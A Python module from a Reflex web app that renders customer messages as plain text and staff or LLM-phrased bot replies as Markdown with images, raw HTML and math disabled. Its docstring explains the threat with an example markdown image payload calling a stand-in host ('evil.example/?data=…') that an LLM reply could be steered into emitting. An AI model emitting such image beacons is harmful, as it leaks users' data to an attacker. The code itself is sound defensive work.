"""Text on screen: customers' words as plain text, staff and bot words as Markdown that cannot reach out.

Customers' words are never Markdown wherever anyone reads them (``plain_text``):
an image would be a tracking beacon on a staff member's screen, a link a phishing
link, ``###`` a heading that imitates the assistant. Staff and bot text is Markdown
(``safe_markdown``) without raw HTML, without math and without images: a reply
phrased by the optional LLM could otherwise be steered into loading
``![](https://evil.example/?data=…)``.
"""

import reflex as rx

BLOCKED_IMAGE = "[image not shown]"


def _no_image(*_children: object, **_props: object) -> rx.Component:
    # react-markdown spreads the node's props (src, alt) onto this span: a span loads nothing.
    return rx.el.span(BLOCKED_IMAGE, class_name="md-image-blocked")


def _scrolling_table(*children: object, **_props: object) -> rx.Component:
    # A wide table scrolls sideways in its own box (a phone never breaks an amount mid-number);
    # focusable, so a keyboard can scroll it too.
    return rx.box(rx.el.table(*children), class_name="table-scroll", tab_index=0)


def safe_markdown(content: rx.Var | str, **props: object) -> rx.Component:
    """Tables, lists and emphasis render; ``<script>``, ``<img onerror>`` and ``![](…)`` show as text."""
    return rx.markdown(
        content,
        use_raw=False,
        use_math=False,
        use_katex=False,
        component_map={"img": _no_image, "table": _scrolling_table},
        **props,
    )


def plain_text(content: rx.Var | str, **props: object) -> rx.Component:
    """Words exactly as typed: line breaks kept, nothing rendered (how every customer message is shown)."""
    return rx.text(content, white_space="pre-wrap", **props)
